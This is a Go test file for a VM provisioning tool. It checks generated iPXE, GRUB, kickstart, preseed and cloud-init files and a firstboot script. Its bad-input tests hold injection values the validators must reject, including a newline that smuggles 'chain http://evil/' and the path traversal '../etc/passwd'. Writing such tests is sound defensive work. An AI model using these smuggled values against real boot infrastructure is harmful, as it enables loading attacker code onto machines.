package templates

import (
	"bytes"
	"errors"
	"net"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vmprov/vmprov/internal/golden"
)

func mustMAC(t *testing.T, s string) net.HardwareAddr {
	t.Helper()
	m, err := net.ParseMAC(s)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// seedHost is test-centos7 from seed 000.
func seedHost(t *testing.T, distro string) Host {
	return Host{
		FQDN:         "test-centos7.example.com.",
		IPv4:         netip.MustParseAddr("192.168.35.172"),
		IPv6:         netip.MustParseAddr("2001:db8:135:0:4:6ff:fe08:73ac"),
		MAC:          mustMAC(t, "02:04:06:08:73:ac"),
		Distribution: distro,
		BootURL:      "http://boot.example.com",
		Site:         "example",
		Vars: []Var{
			{"filename", "test.ipxe"}, {"distribution", distro},
			{"puppet_server", "puppet.example.com"}, {"puppet_environment", "ipxe_test_master"},
		},
		SSHKeys:   []string{"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEKEYEXAMPLEKEYEXAMPLEKEYEXAMPLEKEY admin@example.com"},
		DoneToken: seedToken,
	}
}

// seedToken is a callback token of the form buildstate.Token writes.
const seedToken = "test-centos7.example.com:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// TestPXEDustSeed is seed 000's example, byte for byte.
func TestPXEDustSeed(t *testing.T) {
	got, err := PXEDust(PXEDustInput{
		BootURL:  "http://boot.example.com",
		Site:     "example",
		Filename: "test.ipxe",
		Vars:     []Var{{"filename", "test.ipxe"}, {"distribution", "core"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	const want = "#!ipxe\n\nset distribution core\nchain --replace --autofree http://boot.example.com/bootstrap/example/test.ipxe\n"
	if diff := cmp.Diff(want, string(got)); diff != "" {
		t.Errorf("pxedust (-want +got):\n%s", diff)
	}
	golden.Check(t, "testdata/pxedust-seed.golden", got)
}

func TestIPXEScripts(t *testing.T) {
	tests := []struct {
		name   string
		render func() ([]byte, error)
	}{
		{"boot", func() ([]byte, error) { return BootScript(BootInput{BootURL: "http://boot.example.com"}) }},
		{"boot-v6", func() ([]byte, error) {
			return BootScript(BootInput{BootURL: "http://192.0.2.1:8080", BootURLv6: "http://[2001:db8:135::1]:8080"})
		}},
		{"pxedust-order", func() ([]byte, error) {
			return PXEDust(PXEDustInput{BootURL: "https://boot.example.com", Site: "lab", Filename: "web.ipxe",
				Vars: []Var{{"puppet_server", "puppet.example.com"}, {"filename", "web.ipxe"},
					{"console", "console=ttyS1,9600"}, {"distribution", "noble"}}})
		}},
		{"bootstrap", func() ([]byte, error) {
			return Bootstrap(BootstrapInput{BootURL: "http://boot.example.com",
				Vars: []Var{{"puppet_server", "puppet.example.com"}, {"puppet_environment", "ipxe_test_master"}}})
		}},
		{"install-default", func() ([]byte, error) {
			return InstallScript(InstallInput{BootURL: "http://boot.example.com",
				VarNames: []string{"filename", "distribution", "puppet_server", "puppet_environment", "console", "puppet_server"}})
		}},
		{"install-mirror", func() ([]byte, error) {
			return InstallScript(InstallInput{BootURL: "http://boot.example.com", MirrorURL: "http://repo.example.com"})
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.render()
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.HasPrefix(got, []byte("#!ipxe\n")) {
				t.Errorf("script does not start with #!ipxe")
			}
			golden.Check(t, filepath.Join("testdata", tt.name+".golden"), got)
		})
	}
}

// TestInstallScriptDispatch checks that every distribution is dispatched and has its label,
// and that only non-reserved variables reach the kernel command line.
func TestInstallScriptDispatch(t *testing.T) {
	got, err := InstallScript(InstallInput{BootURL: "http://boot.example.com", VarNames: []string{"distribution", "rack"}})
	if err != nil {
		t.Fatal(err)
	}
	s := string(got)
	for _, d := range Distributions() {
		for _, want := range []string{
			"iseq ${distribution} " + d.Name + " && goto " + d.Name + " ||\n",
			"\n:" + d.Name + "\n",
		} {
			if !strings.Contains(s, want) {
				t.Errorf("install script lacks %q", want)
			}
		}
	}
	if !strings.Contains(s, "isset ${rack} && set cmdline ${cmdline} rack=${rack} ||\n") {
		t.Errorf("rack not appended to the command line")
	}
	if strings.Contains(s, "distribution=${distribution}") {
		t.Errorf("reserved variable distribution appended to the command line")
	}
	if !strings.Contains(s, "kernel ${vmlinuz} ${cmdline}\ninitrd ${pxeboot}/${initrd}\n\nboot\n") {
		t.Errorf("kernel/initrd/boot sequence missing")
	}
}

func TestHostFiles(t *testing.T) {
	ipv6only := seedHost(t, "rocky9")
	ipv6only.FQDN = "v6.example.com"
	ipv6only.IPv4 = netip.Addr{}
	ipv6only.MAC = mustMAC(t, "2a:4a:6a:74:55:06")
	ipv6only.SSHKeys = nil
	ipv6only.MirrorURL = "http://[2001:db8:135::1]/mirror"
	override := seedHost(t, "bookworm")
	override.Vars = append(override.Vars, Var{"pxeboot", "http://repo.example.com/d-i/bookworm"},
		Var{"console", "console=ttyS1,9600"}, Var{"extra", "quiet"}, Var{"ifnames", "1"})

	tests := []struct {
		name   string
		render func() ([]byte, error)
	}{
		{"ks-core", func() ([]byte, error) { return Kickstart(seedHost(t, "core")) }},
		{"ks-rocky9-ipv6only", func() ([]byte, error) { return Kickstart(ipv6only) }},
		{"preseed-bookworm", func() ([]byte, error) { return Preseed(seedHost(t, "bookworm")) }},
		{"preseed-xenial", func() ([]byte, error) { return InstallFile(seedHost(t, "xenial"), "preseed.cfg") }},
		{"user-data-noble", func() ([]byte, error) { return UserData(seedHost(t, "noble")) }},
		{"meta-data-noble", func() ([]byte, error) { return MetaData(seedHost(t, "noble")) }},
		{"grub-core-efi", func() ([]byte, error) { return GrubConfig(GrubInput{Host: seedHost(t, "core"), EFI: true}) }},
		{"grub-bookworm-override", func() ([]byte, error) { return GrubConfig(GrubInput{Host: override}) }},
		{"grub-jammy", func() ([]byte, error) { return GrubConfig(GrubInput{Host: seedHost(t, "jammy")}) }},
		{"grub-bookworm-tftp", func() ([]byte, error) { return GrubConfig(GrubInput{Host: seedHost(t, "bookworm"), TFTP: true}) }},
		{"grub-bookworm-arm64", func() ([]byte, error) { // what the arm64 signed GRUB reads
			h := seedHost(t, "bookworm")
			h.Vars = append(h.Vars, Var{"arch", "aarch64"})
			return GrubConfig(GrubInput{Host: h, TFTP: true})
		}},
		{"pxelinux", func() ([]byte, error) { return PXELinuxConfig(seedHost(t, "core")) }},
		{"firstboot", func() ([]byte, error) { return InstallFile(seedHost(t, "core"), "firstboot") }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.render()
			if err != nil {
				t.Fatal(err)
			}
			golden.Check(t, filepath.Join("testdata", tt.name+".golden"), got)
		})
	}
}

func TestKernelCmdline(t *testing.T) {
	tests := []struct {
		distro string
		want   string
	}{
		{"core", "inst.ks=http://boot.example.com/bootstrap/install/core/x86_64/ks.cfg " +
			"inst.repo=http://boot.example.com/assets/centos/7/os/x86_64 net.ifnames=0 " +
			"firstboot=http://boot.example.com/bootstrap/install/core/firstboot console=ttyS0,115200 " +
			"puppet_server=puppet.example.com puppet_environment=ipxe_test_master"},
		{"noble", "ip=dhcp url=http://boot.example.com/assets/ubuntu/noble/ubuntu-24.04-live-server-amd64.iso autoinstall " +
			"ds=nocloud-net;s=http://boot.example.com/bootstrap/install/noble/x86_64/ cloud-config-url=/dev/null net.ifnames=0 " +
			"firstboot=http://boot.example.com/bootstrap/install/noble/firstboot console=ttyS0,115200 " +
			"puppet_server=puppet.example.com puppet_environment=ipxe_test_master"},
	}
	for _, tt := range tests {
		t.Run(tt.distro, func(t *testing.T) {
			got, err := KernelCmdline(seedHost(t, tt.distro))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("cmdline (-want +got):\n%s", diff)
			}
		})
	}
}

func TestBadInputs(t *testing.T) {
	good := PXEDustInput{BootURL: "http://boot.example.com", Site: "example", Filename: "test.ipxe"}
	tests := []struct {
		name    string
		render  func() ([]byte, error)
		wantErr error  // errors.Is target, or nil
		wantMsg string // substring of the message
	}{
		{"var name with dash", func() ([]byte, error) {
			in := good
			in.Vars = []Var{{"puppet-server", "x"}}
			return PXEDust(in)
		}, ErrInvalidVar, `"puppet-server"`},
		{"var name ipxe builtin", func() ([]byte, error) {
			in := good
			in.Vars = []Var{{"ip", "192.0.2.9"}}
			return PXEDust(in)
		}, ErrInvalidVar, "iPXE network setting"},
		{"value with space", func() ([]byte, error) {
			in := good
			in.Vars = []Var{{"extra", "quiet splash"}}
			return PXEDust(in)
		}, ErrInvalidVar, `extra="quiet splash"`},
		{"value with expansion", func() ([]byte, error) {
			in := good
			in.Vars = []Var{{"x", "${ip}"}}
			return PXEDust(in)
		}, ErrInvalidVar, "x="},
		{"value with chaining", func() ([]byte, error) {
			in := good
			in.Vars = []Var{{"x", "a||b"}}
			return PXEDust(in)
		}, ErrInvalidVar, `'|'`},
		{"value with newline", func() ([]byte, error) {
			in := good
			in.Vars = []Var{{"x", "a\nchain http://evil/"}}
			return PXEDust(in)
		}, ErrInvalidVar, `'\n'`},
		{"empty value", func() ([]byte, error) {
			in := good
			in.Vars = []Var{{"x", ""}}
			return PXEDust(in)
		}, ErrInvalidVar, "empty value"},
		{"duplicate var", func() ([]byte, error) {
			in := good
			in.Vars = []Var{{"x", "1"}, {"x", "2"}}
			return PXEDust(in)
		}, ErrInvalidVar, "x set twice"},
		{"filename with slash", func() ([]byte, error) {
			in := good
			in.Filename = "../etc/passwd"
			return PXEDust(in)
		}, nil, "filename"},
		{"boot URL ftp", func() ([]byte, error) { return BootScript(BootInput{BootURL: "ftp://boot.example.com"}) }, ErrInvalidURL, "scheme"},
		{"boot URL space", func() ([]byte, error) { return BootScript(BootInput{BootURL: "http://boot example"}) }, ErrInvalidURL, "' '"},
		{"boot URL trailing slash", func() ([]byte, error) { return BootScript(BootInput{BootURL: "http://boot.example.com/"}) }, ErrInvalidURL, "trailing slash"},
		{"boot URL query", func() ([]byte, error) { return BootScript(BootInput{BootURL: "http://boot.example.com/?a=b"}) }, ErrInvalidURL, "query"},
		{"v6 URL hash", func() ([]byte, error) {
			return BootScript(BootInput{BootURL: "http://boot.example.com", BootURLv6: "http://[2001:db8::1]/#x"})
		}, ErrInvalidURL, "'#'"},
		{"unknown distro", func() ([]byte, error) { return Kickstart(seedHost(t, "windows")) }, ErrUnknownDistribution, `"windows"`},
		{"wrong family", func() ([]byte, error) { return Kickstart(seedHost(t, "bookworm")) }, ErrInvalidHost, "family debian"},
		{"install file unknown", func() ([]byte, error) { return InstallFile(seedHost(t, "core"), "../x") }, ErrInvalidHost, `"../x"`},
		{"bad FQDN", func() ([]byte, error) {
			h := seedHost(t, "core")
			h.FQDN = "bad_name.example.com"
			return Kickstart(h)
		}, ErrInvalidHost, "bad_name"},
		{"no MAC", func() ([]byte, error) {
			h := seedHost(t, "core")
			h.MAC = nil
			return Kickstart(h)
		}, ErrInvalidHost, "MAC"},
		{"ssh key with quote", func() ([]byte, error) {
			h := seedHost(t, "core")
			h.SSHKeys = []string{`ssh-ed25519 AAAA" x`}
			return Kickstart(h)
		}, ErrInvalidHost, "ssh key"},
		{"grub https mirror", func() ([]byte, error) {
			h := seedHost(t, "core")
			h.MirrorURL = "https://repo.example.com"
			return GrubConfig(GrubInput{Host: h})
		}, ErrInvalidHost, "plain http"},
		{"grub pxeboot with user info", func() ([]byte, error) {
			h := seedHost(t, "core")
			h.Vars = append(h.Vars, Var{"pxeboot", "http://u@repo.example.com/p"})
			return GrubConfig(GrubInput{Host: h})
		}, ErrInvalidHost, "without user info or query"},
		{"grub pxeboot with query", func() ([]byte, error) {
			h := seedHost(t, "core")
			h.Vars = append(h.Vars, Var{"pxeboot", "http://repo.example.com/p?x"})
			return GrubConfig(GrubInput{Host: h})
		}, ErrInvalidHost, `"http://repo.example.com/p?x"`},
		{"grub pxeboot without host", func() ([]byte, error) {
			h := seedHost(t, "core")
			h.Vars = append(h.Vars, Var{"pxeboot", "http:repo"})
			return GrubConfig(GrubInput{Host: h})
		}, ErrInvalidHost, "(http,HOST)PATH"},
		{"install var name", func() ([]byte, error) {
			return InstallScript(InstallInput{BootURL: "http://boot.example.com", VarNames: []string{"a b"}})
		}, ErrInvalidVar, `"a b"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.render()
			if err == nil {
				t.Fatalf("no error; rendered:\n%s", got)
			}
			if tt.wantErr != nil && !errors.Is(err, tt.wantErr) {
				t.Errorf("error %q is not %v", err, tt.wantErr)
			}
			if !strings.Contains(err.Error(), tt.wantMsg) {
				t.Errorf("error %q does not mention %q", err, tt.wantMsg)
			}
		})
	}
}

func TestLookupDistribution(t *testing.T) {
	seen := map[string]bool{}
	for _, d := range Distributions() {
		if seen[d.Name] {
			t.Errorf("distribution %s listed twice", d.Name)
		}
		seen[d.Name] = true
		if err := validSegment("distribution", d.Name); err != nil || ValidVarValue("distribution", d.Name) != nil {
			t.Errorf("distribution name %q unusable in a script or path", d.Name)
		}
		got, err := LookupDistribution(d.Name)
		if err != nil || got.Name != d.Name {
			t.Errorf("LookupDistribution(%q) = %v, %v", d.Name, got.Name, err)
		}
		if len(d.AnswerFiles()) == 0 || d.Kernel == "" || d.Initrd == "" || d.PXEBoot == "" {
			t.Errorf("distribution %s incomplete: %+v", d.Name, d)
		}
	}
	for _, want := range []string{"core", "xenial", "bookworm", "trixie", "jammy", "noble", "rocky9", "alma9", "fedora"} {
		if !seen[want] {
			t.Errorf("distribution %s missing", want)
		}
	}
	if _, err := LookupDistribution("windows"); !errors.Is(err, ErrUnknownDistribution) {
		t.Errorf("LookupDistribution(windows) error = %v", err)
	}
}

// TestFirstbootScript runs the firstboot script with sh against a scratch root: --install
// saves the command line and enables the unit; the first boot run writes the variables and
// the Puppet agent settings and runs hooks.
func TestFirstbootScript(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("sh not found")
	}
	root := t.TempDir()
	script := filepath.Join(t.TempDir(), "firstboot")
	if err := os.WriteFile(script, Firstboot(), 0o755); err != nil {
		t.Fatal(err)
	}
	cmdline := filepath.Join(t.TempDir(), "cmdline")
	line := "BOOT_IMAGE=/vmlinuz inst.ks=http://boot.example.com/ks.cfg net.ifnames=0 " +
		"firstboot=http://boot.example.com/bootstrap/install/core/firstboot console=ttyS0,115200 quiet " +
		"puppet_server=puppet.example.com puppet_environment=ipxe_test_master\n"
	if err := os.WriteFile(cmdline, []byte(line), 0o644); err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) {
		t.Helper()
		cmd := exec.CommandContext(t.Context(), sh, append([]string{script}, args...)...)
		cmd.Env = append(os.Environ(), "VMPROV_FIRSTBOOT_ROOT="+root)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("firstboot %v: %v\n%s", args, err, out)
		}
	}
	run("--install", cmdline)
	saved, err := os.ReadFile(filepath.Join(root, "etc/vmprov/install-cmdline"))
	if err != nil || string(saved) != line {
		t.Fatalf("saved cmdline = %q, %v", saved, err)
	}
	if _, err := os.Lstat(filepath.Join(root, "etc/systemd/system/multi-user.target.wants/vmprov-firstboot.service")); err != nil {
		t.Errorf("unit not enabled: %v", err)
	}
	unit, err := os.ReadFile(filepath.Join(root, "etc/systemd/system/vmprov-firstboot.service"))
	if err != nil || !bytes.Contains(unit, []byte("ExecStart=/usr/local/sbin/vmprov-firstboot /etc/vmprov/install-cmdline\n")) {
		t.Fatalf("unit = %s, %v", unit, err)
	}

	hooks := filepath.Join(root, "etc/vmprov/firstboot.d")
	if err := os.MkdirAll(hooks, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(hooks, "10-env"), []byte("#!/bin/sh\necho \"$puppet_server $console\" > \"$VMPROV_FIRSTBOOT_ROOT/hook.out\"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	run(filepath.Join(root, "etc/vmprov/install-cmdline"))

	env, err := os.ReadFile(filepath.Join(root, "etc/vmprov/firstboot.env"))
	if err != nil {
		t.Fatal(err)
	}
	wantEnv := "BOOT_IMAGE='/vmlinuz'\nfirstboot='http://boot.example.com/bootstrap/install/core/firstboot'\n" +
		"console='ttyS0,115200'\npuppet_server='puppet.example.com'\npuppet_environment='ipxe_test_master'\n"
	if diff := cmp.Diff(wantEnv, string(env)); diff != "" {
		t.Errorf("firstboot.env (-want +got):\n%s", diff)
	}
	conf, err := os.ReadFile(filepath.Join(root, "etc/puppetlabs/puppet/puppet.conf"))
	if diff := cmp.Diff("[agent]\nserver = puppet.example.com\nenvironment = ipxe_test_master\n", string(conf)); err != nil || diff != "" {
		t.Errorf("puppet.conf (-want +got): %v\n%s", err, diff)
	}
	hook, err := os.ReadFile(filepath.Join(root, "hook.out"))
	if diff := cmp.Diff("puppet.example.com ttyS0,115200\n", string(hook)); err != nil || diff != "" {
		t.Errorf("hook output (-want +got): %v\n%s", err, diff)
	}
	if _, err := os.Stat(filepath.Join(root, "var/lib/vmprov/firstboot.done")); err != nil {
		t.Errorf("done marker: %v", err)
	}
}

// TestGrubKernelArgs: grub.cfg gives the kernel its command line as one
// quoted word per argument. GRUB wraps a word that holds spaces in double
// quotes on the kernel's command line, which the kernel takes for a single
// parameter: console=, url= and the rest would be lost.
func TestGrubKernelArgs(t *testing.T) {
	quoted := regexp.MustCompile(`'([^']*)'`)
	for _, d := range Distributions() {
		for _, tftp := range []bool{false, true} {
			h := seedHost(t, d.Name)
			b, err := GrubConfig(GrubInput{Host: h, TFTP: tftp})
			if err != nil {
				t.Fatalf("%s: %v", d.Name, err)
			}
			in, err := Install(h)
			if err != nil {
				t.Fatal(err)
			}
			var args []string
			for _, l := range strings.Split(string(b), "\n") {
				if strings.HasPrefix(strings.TrimSpace(l), "linux ") {
					for _, m := range quoted.FindAllStringSubmatch(l, -1) {
						args = append(args, m[1])
					}
				}
			}
			if got := strings.Join(args, " "); got != in.Cmdline || slices.ContainsFunc(args, func(a string) bool { return strings.Contains(a, " ") }) {
				t.Errorf("%s (tftp %v): kernel arguments %q, want the words of %q", d.Name, tftp, args, in.Cmdline)
			}
		}
	}
}

// TestInstallARM64 is a Debian host with TXT arch=aarch64: its installer is the arm64
// netboot d-i (installer-arm64/.../arm64), its answer file under .../aarch64/, and its
// kernel console the PL011 UART, ttyAMA0, unless TXT console says otherwise.
func TestInstallARM64(t *testing.T) {
	h := seedHost(t, "bookworm")
	h.Vars = append(h.Vars, Var{"arch", "aarch64"})
	got, err := Install(h)
	if err != nil {
		t.Fatal(err)
	}
	dir := "http://boot.example.com/assets/debian/dists/bookworm/main/installer-arm64/current/images/netboot/debian-installer/arm64"
	want := InstallBoot{
		Distribution: "bookworm",
		Kernel:       dir + "/linux",
		Initrd:       dir + "/initrd.gz",
		AnswerFile:   "http://boot.example.com/bootstrap/install/bookworm/aarch64/preseed.cfg",
		Cmdline: "DEBIAN_FRONTEND=text auto=true priority=critical interface=auto " +
			"url=http://boot.example.com/bootstrap/install/bookworm/aarch64/preseed.cfg hostname=test-centos7 domain=example.com " +
			"locale=en_US.UTF-8 keyboard-configuration/xkb-keymap=us console-setup/ask_detect=false net.ifnames=0 " +
			"firstboot=http://boot.example.com/bootstrap/install/bookworm/firstboot console=ttyAMA0,115200 " +
			"puppet_server=puppet.example.com puppet_environment=ipxe_test_master",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("install of an aarch64 host (-want +got):\n%s", diff)
	}
	h.Vars = append(h.Vars, Var{"console", "console=ttyS2"})
	if c, err := KernelCmdline(h); err != nil || !strings.Contains(c, " console=ttyS2") || strings.Contains(c, "ttyAMA0") {
		t.Errorf("TXT console=console=ttyS2 on an aarch64 host: cmdline %q, %v; want its console, not ttyAMA0", c, err)
	}
	if got, err := Install(seedHost(t, "bookworm")); err != nil || !strings.Contains(got.Kernel, "/installer-amd64/") || !strings.Contains(got.Cmdline, "console=ttyS0,115200") {
		t.Errorf("a host without TXT arch: %+v, %v; want the amd64 installer and ttyS0", got, err)
	}
}

// TestGrubTFTPAssets: signed GRUB's grub.cfg (GrubInput.TFTP) loads the
// kernel and initrd from serve's own assets/ over TFTP, at the
// distribution's installer path for the host's architecture, whatever the
// mirror (TXT mirror=, boot.assets on another host) or its scheme: TFTP
// serves nothing else. The installer's mirror stays the host's.
func TestGrubTFTPAssets(t *testing.T) {
	const amd64 = "/assets/debian/dists/bookworm/main/installer-amd64/current/images/netboot/debian-installer/amd64/"
	const arm64 = "/assets/debian/dists/bookworm/main/installer-arm64/current/images/netboot/debian-installer/arm64/"
	for _, tt := range []struct {
		name   string
		mirror string // Host.MirrorURL (boot.assets)
		vars   []Var  // beside seedHost's
		dir    string
	}{
		{"TXT mirror on another host", "", []Var{{"mirror", "http://deb.debian.org"}}, amd64},
		{"TXT mirror https", "", []Var{{"mirror", "https://deb.debian.org/m"}}, amd64},
		{"boot.assets on another host", "http://assets.example.net/pub", nil, amd64},
		{"arm64, boot.assets on another host", "http://assets.example.net/pub", []Var{{"arch", "aarch64"}}, arm64},
	} {
		t.Run(tt.name, func(t *testing.T) {
			h := seedHost(t, "bookworm")
			h.MirrorURL = tt.mirror
			h.Vars = append(h.Vars, tt.vars...)
			b, err := GrubConfig(GrubInput{Host: h, TFTP: true})
			if err != nil {
				t.Fatal(err)
			}
			for _, want := range []string{"\tlinux " + tt.dir + "linux '", "\tinitrd " + tt.dir + "initrd.gz\n"} {
				if !strings.Contains(string(b), want) {
					t.Errorf("grub.cfg:\n%s\nwant %q", b, want)
				}
			}
			if strings.Contains(string(b), "(http,") {
				t.Errorf("grub.cfg:\n%s\nloads over HTTP", b)
			}
			preseed, err := Preseed(h)
			if err != nil {
				t.Fatal(err)
			}
			mirror := h.MirrorURL
			for _, v := range tt.vars {
				if v.Name == "mirror" {
					mirror = v.Value
				}
			}
			u, _ := url.Parse(mirror)
			if want := "d-i mirror/" + u.Scheme + "/hostname string " + u.Host + "\n"; !strings.Contains(string(preseed), want) {
				t.Errorf("preseed lacks %q: the installer's mirror is the host's", want)
			}
		})
	}
}

// TestArchRefused: a host whose arch is neither x86_64 nor aarch64 (Debian's
// arm64) renders nothing, rather than the x86_64 installer.
func TestArchRefused(t *testing.T) {
	h := seedHost(t, "bookworm")
	h.Vars = append(h.Vars, Var{"arch", "arm64"})
	for name, render := range map[string]func() ([]byte, error){
		"grub.cfg":    func() ([]byte, error) { return GrubConfig(GrubInput{Host: h, TFTP: true}) },
		"preseed.cfg": func() ([]byte, error) { return Preseed(h) },
	} {
		if b, err := render(); err == nil || !strings.Contains(err.Error(), `arch "arm64": use x86_64 or aarch64`) {
			t.Errorf("%s: %v\n%s\nwant an error naming arch \"arm64\" and the fix", name, err, b)
		}
	}
}
